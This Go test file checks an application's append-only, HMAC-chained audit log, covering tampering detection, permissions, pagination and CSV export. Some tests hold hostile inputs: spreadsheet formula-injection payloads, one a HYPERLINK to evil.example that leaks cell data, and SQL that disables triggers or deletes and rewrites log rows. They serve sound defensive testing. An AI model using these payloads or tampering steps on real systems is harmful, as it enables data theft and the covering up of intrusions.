package audit_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	"mipo/app"
	"mipo/app/apptest"
	"mipo/modules/audit"
	_ "mipo/modules/rbac"
	"mipo/modules/rbac/rbactest"
	_ "mipo/modules/settings"
)

func TestMain(m *testing.M) { apptest.Main(m) }

func start(t testing.TB) (*apptest.Server, *apptest.Client) {
	t.Helper()
	dbs := apptest.Databases(t)
	srv := apptest.Start(t, apptest.Config(t, dbs, app.RoleManager), dbs, app.Options{})
	return srv, rbactest.Owner(t, srv)
}

type page struct {
	Items      []audit.AuditRecord `json:"items"`
	NextCursor string              `json:"next_cursor"`
}

func TestEveryChangeIsRecordedWithItsDiffAndSecretsMasked(t *testing.T) {
	srv, owner := start(t)
	r := owner.Post("/api/v1/users", map[string]any{"username": "erin", "display_name": "Erin", "password": "first-secret-passphrase"})
	var u struct{ ID string }
	r.JSON(t, &u)
	owner.Patch("/api/v1/users/"+u.ID, map[string]any{"display_name": "Erin B.", "password": "second-secret-passphrase"})

	var p page
	owner.Get("/api/v1/audit?resource_type=user&resource_id="+u.ID).JSON(t, &p)
	if len(p.Items) != 2 || p.Items[0].Action != "user.update" || p.Items[1].Action != "user.create" {
		t.Fatalf("want update then create, got %+v", p.Items)
	}
	upd := p.Items[0]
	if upd.Actor.Kind != "user" || upd.Actor.Name != "owner" || upd.SourceIP != "127.0.0.1" || upd.UserAgent == "" || upd.Outcome != "success" {
		t.Fatalf("actor and origin not recorded: %+v", upd)
	}
	found := false
	for _, d := range upd.Diff {
		if d.Field == "display_name" && d.Old == "Erin" && d.New == "Erin B." {
			found = true
		}
	}
	if !found {
		t.Fatalf("the diff lacks display_name Erin → Erin B.: %+v", upd.Diff)
	}
	raw := owner.Get("/api/v1/audit?limit=500").Body
	if strings.Contains(string(raw), "passphrase") {
		t.Fatal("a password reached the audit log")
	}
	// Filters: action prefix, outcome, time window, actor.
	owner.Get("/api/v1/audit?action=user.*&actor=owner").JSON(t, &p)
	for _, it := range p.Items {
		if !strings.HasPrefix(it.Action, "user.") {
			t.Fatalf("action prefix filter let %s through", it.Action)
		}
	}
	future := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	owner.Get("/api/v1/audit?from="+future).JSON(t, &p)
	if len(p.Items) != 0 {
		t.Fatal("a time window in the future found records")
	}
	if r := owner.Get("/api/v1/audit?from=yesterday"); r.Status != http.StatusBadRequest || r.ErrorField() != "from" {
		t.Fatalf("a bad time: %d %s", r.Status, r.Body)
	}
	if r := owner.Get("/api/v1/audit?outcome=maybe"); r.ErrorField() != "outcome" {
		t.Fatalf("a bad outcome: %d %s", r.Status, r.Body)
	}
	_ = srv
}

func TestKeysetPagination(t *testing.T) {
	_, owner := start(t)
	for i := 0; i < 7; i++ {
		owner.Post("/api/v1/roles", map[string]any{"name": "r" + string(rune('a'+i)), "scopes": []string{}})
	}
	seen := map[int64]bool{}
	cursor := ""
	for pages := 0; pages < 20; pages++ {
		var p page
		owner.Get("/api/v1/audit?action=role.create&limit=3&cursor="+cursor).JSON(t, &p)
		for _, it := range p.Items {
			if seen[it.ID] {
				t.Fatalf("record %d on two pages", it.ID)
			}
			seen[it.ID] = true
		}
		if cursor = p.NextCursor; cursor == "" {
			break
		}
	}
	if len(seen) != 10 { // 3 built-in roles created at start + 7
		t.Fatalf("paged through %d role.create records, want 10", len(seen))
	}
}

// mipo's own database role may add to the append-only tables and read them, nothing more: it
// does not own them, is no member of their owner, and cannot switch their triggers off, grant
// itself more, or rewrite, empty or drop them.
func TestTheApplicationRoleCannotRewriteTheLog(t *testing.T) {
	srv, _ := start(t)
	ctx := context.Background()
	if apptest.SharedServer() {
		t.Skip("MIPO_TEST_DATABASE_URL runs every role as one superuser")
	}
	for table, pool := range map[string]*pgxpool.Pool{"audit_log": srv.DBs.Config, "config_versions": srv.DBs.Config, "audit_checkpoints": srv.DBs.Jobs} {
		for _, stmt := range []string{
			`ALTER TABLE ` + table + ` DISABLE TRIGGER USER`,
			`ALTER TABLE ` + table + ` OWNER TO mipo`,
			`GRANT UPDATE, DELETE, TRUNCATE ON ` + table + ` TO mipo`,
			`UPDATE ` + table + ` SET id = id`,
			`DELETE FROM ` + table,
			`TRUNCATE ` + table,
			`DROP TABLE ` + table,
		} {
			// GRANT without the grant option is a warning, not an error, in PostgreSQL: what
			// counts is that nothing was granted.
			if _, err := pool.Exec(ctx, stmt); err == nil && !strings.HasPrefix(stmt, "GRANT") {
				t.Errorf("mipo's own database role ran %q", stmt)
			}
		}
		var owns, update, trigger, grantable bool
		err := pool.QueryRow(ctx, `SELECT pg_has_role(current_user, c.relowner, 'MEMBER'),
			has_table_privilege(c.oid, 'UPDATE') OR has_table_privilege(c.oid, 'DELETE') OR has_table_privilege(c.oid, 'TRUNCATE'),
			has_table_privilege(c.oid, 'TRIGGER'), has_table_privilege(c.oid, 'INSERT WITH GRANT OPTION') OR has_table_privilege(c.oid, 'SELECT WITH GRANT OPTION')
			FROM pg_class c WHERE c.relname = $1`, table).Scan(&owns, &update, &trigger, &grantable)
		if err != nil || owns || update || trigger || grantable {
			t.Errorf("%s: mipo owns it %v, may change rows %v, may set triggers %v, may grant %v (%v)", table, owns, update, trigger, grantable, err)
		}
	}
	// Even a superuser is stopped by the trigger while it is enabled.
	su, err := pgx.Connect(ctx, apptest.SuperuserDSN(srv.DBs.Names["config"]))
	if err != nil {
		t.Fatal(err)
	}
	defer su.Close(ctx)
	if _, err := su.Exec(ctx, `DELETE FROM audit_log`); err == nil || !strings.Contains(err.Error(), "append-only") {
		t.Fatalf("the trigger did not refuse a superuser's DELETE: %v", err)
	}
	var n int
	if su.QueryRow(ctx, `SELECT count(*) FROM audit_log`).Scan(&n); n == 0 {
		t.Fatal("the audit log was emptied")
	}
}

func TestVerifyNamesTheFirstAlteredRecord(t *testing.T) {
	srv, owner := start(t)
	for i := 0; i < 5; i++ {
		owner.Post("/api/v1/roles", map[string]any{"name": "role" + string(rune('a'+i)), "scopes": []string{}})
	}
	var v audit.Verification
	owner.Get("/api/v1/audit/verify").JSON(t, &v)
	if !v.OK || v.Checked < 8 {
		t.Fatalf("an untouched log must verify: %+v", v)
	}
	ctx := context.Background()
	su, err := pgx.Connect(ctx, apptest.SuperuserDSN(srv.DBs.Names["config"]))
	if err != nil {
		t.Fatal(err)
	}
	defer su.Close(ctx)
	var victim int64
	su.QueryRow(ctx, `SELECT id FROM audit_log WHERE action = 'role.create' AND detail = '{}' ORDER BY id DESC OFFSET 2 LIMIT 1`).Scan(&victim)
	// A superuser switches the trigger off and edits bytes of one record.
	if _, err := su.Exec(ctx, `SET session_replication_role = replica`); err != nil {
		t.Fatal(err)
	}
	if _, err := su.Exec(ctx, `UPDATE audit_log SET diff = jsonb_set(diff, '{0,new}', '"tampered"') WHERE id = $1`, victim); err != nil {
		t.Fatal(err)
	}
	owner.Get("/api/v1/audit/verify").JSON(t, &v)
	if v.OK || v.FirstBadID == nil || *v.FirstBadID != victim {
		t.Fatalf("verify must name record %d, got %+v", victim, v)
	}
	// Removing a record is caught at the record after it.
	var last int64
	su.QueryRow(ctx, `SELECT max(id) FROM audit_log`).Scan(&last)
	su.Exec(ctx, `DELETE FROM audit_log WHERE id = $1`, victim)
	v, err = audit.Verify(ctx, chainOf(srv))
	if err != nil || v.OK || *v.FirstBadID <= victim || *v.FirstBadID > last {
		t.Fatalf("a removed record must break the chain after it: %+v %v", v, err)
	}
	// `mipo audit verify` says the same and fails.
	cmd := app.NewCLI()
	cmd.SetArgs([]string{"audit", "verify", "--data-dir", srv.App.Config.DataDir, "--config-dsn", srv.DBs.DSN("config"),
		"--results-dsn", srv.DBs.DSN("results"), "--jobs-dsn", srv.DBs.DSN("jobs")})
	cmd.SetOut(&strings.Builder{})
	if err := cmd.Execute(); err == nil || !strings.Contains(err.Error(), "broken at record") {
		t.Fatalf("mipo audit verify: %v", err)
	}
}

func TestARequestWhoseAuditRecordFailsChangesNothing(t *testing.T) {
	srv, owner := start(t)
	ctx := context.Background()
	su, err := pgx.Connect(ctx, apptest.SuperuserDSN(srv.DBs.Names["config"]))
	if err != nil {
		t.Fatal(err)
	}
	defer su.Close(ctx)
	if _, err := su.Exec(ctx, `REVOKE INSERT ON audit_log FROM mipo`); err != nil {
		t.Fatal(err)
	}
	r := owner.Post("/api/v1/roles", map[string]any{"name": "unrecorded", "scopes": []string{}})
	if r.Status != http.StatusInternalServerError || r.ErrorCode() != "internal" {
		t.Fatalf("a change whose record cannot be written answered %d %s", r.Status, r.Body)
	}
	var n int
	srv.DBs.Config.QueryRow(ctx, `SELECT count(*) FROM roles WHERE name = 'unrecorded'`).Scan(&n)
	if n != 0 {
		t.Fatal("the change was kept without its audit record")
	}
}

func TestConcurrentWritersKeepTheChainIntact(t *testing.T) {
	srv, owner := start(t)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 5; j++ {
				owner.Post("/api/v1/roles", map[string]any{"name": "c" + string(rune('a'+i)) + string(rune('a'+j)), "scopes": []string{}})
			}
		}()
	}
	wg.Wait()
	v, err := audit.Verify(context.Background(), chainOf(srv))
	if err != nil || !v.OK {
		t.Fatalf("concurrent writers broke the chain: %+v %v", v, err)
	}
}

func TestExportJSONLAndCSV(t *testing.T) {
	_, owner := start(t)
	owner.Post("/api/v1/roles", map[string]any{"name": "exported", "scopes": []string{"audit:view"}})
	r := owner.Get("/api/v1/audit/export?format=jsonl&action=role.create")
	if r.Status != 200 || !strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export: %d %v", r.Status, r.Header)
	}
	lines := strings.Split(strings.TrimSpace(string(r.Body)), "\n")
	var last audit.AuditRecord
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil || last.Action != "role.create" || len(lines) != 4 {
		t.Fatalf("jsonl export of role.create: %d lines, last %+v (%v)", len(lines), last, err)
	}
	r = owner.Get("/api/v1/audit/export?format=csv&action=role.create")
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	if err != nil || len(rows) != 5 || rows[0][8] != "action" || rows[4][8] != "role.create" {
		t.Fatalf("csv export: %v rows, err %v", len(rows), err)
	}
	if r := owner.Get("/api/v1/audit/export?format=xml"); r.ErrorField() != "format" {
		t.Fatalf("an unknown format: %d %s", r.Status, r.Body)
	}
	var p page
	owner.Get("/api/v1/audit?action=audit.export").JSON(t, &p)
	if len(p.Items) < 2 {
		t.Fatal("exports are not recorded")
	}
}

// An export of 100,000 records streams: the server's heap stays flat while tens of megabytes
// go out.
func TestExportOfAHundredThousandRecordsStreamsWithFlatMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("inserts 100,000 records")
	}
	srv, owner := start(t)
	ctx := context.Background()
	filler := strings.Repeat("x", 600)
	_, err := srv.DBs.Config.Exec(ctx, `
		INSERT INTO audit_log (id, at, actor_kind, action, outcome, detail, prev_hash, hash)
		SELECT nextval('audit_log_id_seq'), now(), 'system', 'bulk.test', 'success', jsonb_build_object('filler', $1::text, 'n', g), '\x00', '\x00'
		FROM generate_series(1, 100000) g`, filler)
	if err != nil {
		t.Fatal(err)
	}
	// Collect garbage eagerly, so the heap measures what the export holds on to, not what it
	// has dropped and the collector has not yet taken.
	defer debug.SetGCPercent(debug.SetGCPercent(10))
	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	var peak atomic.Uint64
	stop := make(chan struct{})
	go func() {
		var m runtime.MemStats
		for {
			select {
			case <-stop:
				return
			case <-time.After(5 * time.Millisecond):
				runtime.ReadMemStats(&m)
				if m.HeapInuse > peak.Load() {
					peak.Store(m.HeapInuse)
				}
			}
		}
	}()
	req, _ := http.NewRequest(http.MethodGet, owner.Base+"/api/v1/audit/export?format=jsonl&action=bulk.test", nil)
	for k, v := range owner.Header {
		req.Header[k] = v
	}
	res, err := owner.HTTP.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(res.Body)
	sc.Buffer(make([]byte, 64*1024), 1<<20)
	lines, bytes := 0, 0
	for sc.Scan() {
		lines++
		bytes += len(sc.Bytes())
	}
	res.Body.Close()
	close(stop)
	grew := int64(peak.Load()) - int64(base.HeapInuse)
	t.Logf("exported %d records, %d MB; heap grew by at most %.1f MB", lines, bytes>>20, float64(grew)/(1<<20))
	if lines != 100000 {
		t.Fatalf("exported %d records, want 100000", lines)
	}
	if grew > 24<<20 || bytes < 60<<20 {
		t.Fatalf("the export is not streamed: %d MB sent, heap grew %d MB", bytes>>20, grew>>20)
	}
}

func FuzzQueryFilters(f *testing.F) {
	f.Add("owner", "user.*", "user", "success", "2026-01-01T00:00:00Z", "2026-02-01T00:00:00Z")
	f.Add("", "%_\\*", "", "maybe", "yesterday", "")
	f.Fuzz(func(t *testing.T, actor, action, resource, outcome, from, to string) {
		q := audit.Query{Actor: actor, Action: action, ResourceType: resource, Outcome: outcome, From: from, To: to}
		if err := audit.CheckQuery(q); err != nil {
			if e, ok := err.(*app.Error); !ok || e.Status != 400 || e.Field == "" {
				t.Fatalf("a bad filter must be a 400 naming its field: %#v", err)
			}
		}
	})
}

func BenchmarkAuditInsert(b *testing.B) {
	dbs := apptest.Databases(b)
	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("bench")), []byte("0123456789abcdef0123456789abcdef"))
	before := map[string]any{"name": "a", "scopes": []string{"x:y"}}
	after := map[string]any{"name": "b", "scopes": []string{"x:y", "z:w"}}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		if err := audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "bench.update", ResourceType: "bench", ResourceID: "1", Before: before, After: after}); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "records/s")
}

// Who fails to sign in chooses the username and the User-Agent an auditor later opens in a
// spreadsheet: a formula there must arrive as text, not run.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	srv, owner := start(t)
	attacker := apptest.NewClient(t, srv.URL)
	attacker.Header.Set("User-Agent", `=HYPERLINK("http://evil.example/?"&A1,"open")`)
	for _, name := range []string{`=cmd|' /C calc'!A0`, "@SUM(1)", "+1+1", "-2+3"} {
		if r := attacker.Post("/api/v1/auth/login", map[string]string{"username": name, "password": "wrong-password-here"}); r.Status != http.StatusUnauthorized {
			t.Fatalf("login as %q: %d %s", name, r.Status, r.Body)
		}
	}
	r := owner.Get("/api/v1/audit/export?format=csv&action=session.login")
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	if err != nil || len(rows) < 5 {
		t.Fatalf("csv export: %d rows, %v\n%s", len(rows), err, r.Body)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell opens as a formula: %q", cell)
			}
			seen[cell] = true
		}
	}
	for _, want := range []string{`'=cmd|' /C calc'!A0`, "'@SUM(1)", "'+1+1", "'-2+3", `'=HYPERLINK("http://evil.example/?"&A1,"open")`} {
		if !seen[want] {
			t.Errorf("the export lacks the neutralised cell %q", want)
		}
	}
}

func chainOf(srv *apptest.Server) audit.Chain {
	return audit.Chain{Config: srv.DBs.Config, Jobs: srv.DBs.Jobs, Key: srv.App.Config.AuditKey}
}

// superuser connects to the test's config database as a superuser with the triggers off: the
// strongest attacker short of one holding MIPO_AUDIT_KEY.
func superuser(t *testing.T, srv *apptest.Server, db string) *pgx.Conn {
	t.Helper()
	ctx := context.Background()
	su, err := pgx.Connect(ctx, apptest.SuperuserDSN(srv.DBs.Names[db]))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { su.Close(ctx) })
	if _, err := su.Exec(ctx, `SET session_replication_role = replica`); err != nil {
		t.Fatal(err)
	}
	return su
}

// someRecords writes n role.create records and a checkpoint after them.
func someRecords(t *testing.T, srv *apptest.Server, owner *apptest.Client, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		owner.Post("/api/v1/roles", map[string]any{"name": fmt.Sprintf("cp%02d", i), "scopes": []string{}})
	}
	if err := audit.Checkpoint(context.Background(), chainOf(srv)); err != nil {
		t.Fatal(err)
	}
	if v, err := audit.Verify(context.Background(), chainOf(srv)); err != nil || !v.OK {
		t.Fatalf("an untouched log must verify: %+v %v", v, err)
	}
}

func TestVerifyCatchesACutTail(t *testing.T) {
	srv, owner := start(t)
	someRecords(t, srv, owner, 6)
	ctx := context.Background()
	var count int64
	srv.DBs.Config.QueryRow(ctx, `SELECT count(*) FROM audit_log`).Scan(&count)
	su := superuser(t, srv, "config")
	if _, err := su.Exec(ctx, `DELETE FROM audit_log WHERE id IN (SELECT id FROM audit_log ORDER BY id DESC LIMIT 3)`); err != nil {
		t.Fatal(err)
	}
	v, err := audit.Verify(ctx, chainOf(srv))
	want := fmt.Sprintf("says %d records", count)
	if err != nil || v.OK || !strings.Contains(v.Reason, want) || !strings.Contains(v.Reason, fmt.Sprintf("the table has %d", count-3)) {
		t.Fatalf("a cut tail must be named (%q): %+v %v", want, v, err)
	}
}

func TestVerifyCatchesARewriteWithoutTheKey(t *testing.T) {
	srv, owner := start(t)
	someRecords(t, srv, owner, 6)
	ctx := context.Background()
	var victim int64
	srv.DBs.Config.QueryRow(ctx, `SELECT id FROM audit_log ORDER BY id DESC OFFSET 3 LIMIT 1`).Scan(&victim)
	su := superuser(t, srv, "config")
	if _, err := su.Exec(ctx, `UPDATE audit_log SET actor_name = 'someone-else' WHERE id = $1`, victim); err != nil {
		t.Fatal(err)
	}
	// Every hash from the victim on is recomputed, links and all, without the key.
	if err := audit.Rechain(ctx, su, victim, nil); err != nil {
		t.Fatal(err)
	}
	v, err := audit.Verify(ctx, chainOf(srv))
	if err != nil || v.OK || v.FirstBadID == nil || *v.FirstBadID != victim {
		t.Fatalf("a rewrite without the key must be caught at record %d: %+v %v", victim, v, err)
	}
	// Even with a guessed key the rewrite is caught at the same record.
	if err := audit.Rechain(ctx, su, victim, []byte("a-key-that-is-not-mipo-audit-key")); err != nil {
		t.Fatal(err)
	}
	if v, _ := audit.Verify(ctx, chainOf(srv)); v.OK || *v.FirstBadID != victim {
		t.Fatalf("a rewrite under another key must be caught: %+v", v)
	}
}

func TestVerifyCatchesAForgedAppend(t *testing.T) {
	srv, owner := start(t)
	someRecords(t, srv, owner, 3)
	ctx := context.Background()
	su := superuser(t, srv, "config")
	var forged int64
	if err := su.QueryRow(ctx, `INSERT INTO audit_log (id, at, actor_kind, actor_name, action, outcome, prev_hash, hash)
		SELECT nextval('audit_log_id_seq'), now(), 'user', 'owner', 'session.login', 'success', '', '' RETURNING id`).Scan(&forged); err != nil {
		t.Fatal(err)
	}
	if err := audit.Rechain(ctx, su, forged, nil); err != nil { // a correct unkeyed hash, linked to the head
		t.Fatal(err)
	}
	v, err := audit.Verify(ctx, chainOf(srv))
	if err != nil || v.OK || v.FirstBadID == nil || *v.FirstBadID != forged {
		t.Fatalf("a forged append must be named: %+v %v", v, err)
	}
}

// Records written before the key existed carry unkeyed hashes. The first checkpoint (written
// at the first start with the key) anchors them: it is keyed, and it holds their head. Before
// that anchor they do not verify; after it they do, and an unkeyed record after the anchor is a
// forgery.
func TestRecordsFromBeforeTheKeyAreAnchoredByTheFirstCheckpoint(t *testing.T) {
	dbs := apptest.Databases(t)
	key := []byte("0123456789abcdef0123456789abcdef")
	chain := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: key}
	older := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("older")), nil)
	for i := 0; i < 3; i++ {
		if err := audit.RecordNow(older, dbs.ConfigDB(), audit.Entry{Action: "older.write", ResourceType: "thing"}); err != nil {
			t.Fatal(err)
		}
	}
	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("newer")), key)
	if v, _ := audit.Verify(ctx, chain); v.OK {
		t.Fatalf("unkeyed records no checkpoint vouches for must not verify: %+v", v)
	}
	if err := audit.Checkpoint(ctx, chain); err != nil {
		t.Fatal(err)
	}
	if err := audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "newer.write", ResourceType: "thing"}); err != nil {
		t.Fatal(err)
	}
	if v, err := audit.Verify(ctx, chain); err != nil || !v.OK || v.Checked != 4 {
		t.Fatalf("anchored older records and a keyed one must verify: %+v %v", v, err)
	}
	if err := audit.RecordNow(older, dbs.ConfigDB(), audit.Entry{Action: "older.write", ResourceType: "thing"}); err != nil {
		t.Fatal(err)
	}
	if v, _ := audit.Verify(ctx, chain); v.OK {
		t.Fatalf("an unkeyed record after the anchor must not verify: %+v", v)
	}
}

// A process with another MIPO_AUDIT_KEY (a compose service given its own .mipo.env) would write
// records nobody can verify: it refuses to checkpoint and says why.
func TestCheckpointUnderAnotherKeyIsRefused(t *testing.T) {
	dbs := apptest.Databases(t)
	a := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: []byte("0123456789abcdef0123456789abcdef")}
	b := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: []byte("fedcba9876543210fedcba9876543210")}
	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("t")), a.Key)
	if err := audit.Checkpoint(ctx, a); err != nil {
		t.Fatal(err)
	}
	audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "thing.write", ResourceType: "thing"})
	if err := audit.Checkpoint(ctx, b); err == nil || !strings.Contains(err.Error(), "MIPO_AUDIT_KEY") {
		t.Fatalf("a checkpoint under another key: %v", err)
	}
	if v, _ := audit.Verify(ctx, b); v.OK || !strings.Contains(v.Reason, "MIPO_AUDIT_KEY") {
		t.Fatalf("verify under another key must say so: %+v", v)
	}
}

// Verify recomputes every record's HMAC and checks each checkpoint on the way.
func BenchmarkVerify(b *testing.B) {
	dbs := apptest.Databases(b)
	key := []byte("0123456789abcdef0123456789abcdef")
	ctx := app.WithAuditKey(app.WithPrincipal(context.Background(), app.System("bench")), key)
	chain := audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: key}
	const records = 2000
	for i := 0; i < records; i++ {
		if err := audit.RecordNow(ctx, dbs.ConfigDB(), audit.Entry{Action: "bench.update", ResourceType: "bench", ResourceID: fmt.Sprint(i),
			Before: map[string]any{"n": i}, After: map[string]any{"n": i + 1}}); err != nil {
			b.Fatal(err)
		}
		if i%200 == 0 {
			audit.Checkpoint(ctx, chain)
		}
	}
	b.ResetTimer()
	for b.Loop() {
		if v, err := audit.Verify(ctx, chain); err != nil || !v.OK || v.Checked != records {
			b.Fatalf("%+v %v", v, err)
		}
	}
	b.ReportMetric(float64(records*b.N)/b.Elapsed().Seconds(), "records/s")
}

// A command (`mipo setup`) writes its records under the installation's key, as a server does.
func TestCommandsWriteKeyedRecords(t *testing.T) {
	dbs := apptest.Databases(t)
	dir := t.TempDir()
	cmd := app.NewCLI()
	cmd.SetArgs([]string{"setup", "--username", "root", "--password-stdin", "--data-dir", dir,
		"--config-dsn", dbs.DSN("config"), "--results-dsn", dbs.DSN("results"), "--jobs-dsn", dbs.DSN("jobs")})
	cmd.SetIn(strings.NewReader("a-long-cli-password\n"))
	cmd.SetOut(&strings.Builder{})
	if err := cmd.Execute(); err != nil {
		t.Fatal(err)
	}
	cfg, err := app.LoadConfig(map[string]string{"MIPO_DATA_DIR": dir}, nil)
	if err != nil {
		t.Fatal(err)
	}
	v, err := audit.Verify(context.Background(), audit.Chain{Config: dbs.Config, Jobs: dbs.Jobs, Key: cfg.AuditKey})
	if err != nil || !v.OK || v.Checked == 0 {
		t.Fatalf("`mipo setup`'s records must verify under the installation's key: %+v %v", v, err)
	}
}

// A write is followed by a checkpoint that covers it (soon, not only at the next periodic run),
// so the window in which a cut tail goes unseen is short.
func TestAWriteIsFollowedByACheckpoint(t *testing.T) {
	srv, owner := start(t)
	owner.Post("/api/v1/roles", map[string]any{"name": "checkpointed", "scopes": []string{}})
	ctx := context.Background()
	var count int64
	srv.DBs.Config.QueryRow(ctx, `SELECT count(*) FROM audit_log`).Scan(&count)
	apptest.WaitFor(t, 5*time.Second, "a checkpoint covering the new record", func() bool {
		cp, err := audit.LatestCheckpoint(ctx, srv.DBs.Jobs)
		return err == nil && cp != nil && cp.Count >= count
	})
}

// Whoever forges an unkeyed record and deletes every checkpoint, so that the next start writes
// a fresh anchor, gains nothing: an anchor vouches only for the unkeyed records before the
// first keyed one.
func TestAFreshAnchorDoesNotVouchForAForgery(t *testing.T) {
	srv, owner := start(t)
	someRecords(t, srv, owner, 3)
	ctx := context.Background()
	su := superuser(t, srv, "config")
	var forged int64
	if err := su.QueryRow(ctx, `INSERT INTO audit_log (id, at, actor_kind, actor_name, action, outcome, prev_hash, hash)
		SELECT nextval('audit_log_id_seq'), now(), 'user', 'owner', 'session.login', 'success', '', '' RETURNING id`).Scan(&forged); err != nil {
		t.Fatal(err)
	}
	if err := audit.Rechain(ctx, su, forged, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := superuser(t, srv, "jobs").Exec(ctx, `DELETE FROM audit_checkpoints`); err != nil {
		t.Fatal(err)
	}
	if err := audit.Checkpoint(ctx, chainOf(srv)); err != nil { // the next start
		t.Fatal(err)
	}
	v, err := audit.Verify(ctx, chainOf(srv))
	if err != nil || v.OK || v.FirstBadID == nil || *v.FirstBadID != forged {
		t.Fatalf("the forged record must still be named: %+v %v", v, err)
	}
}
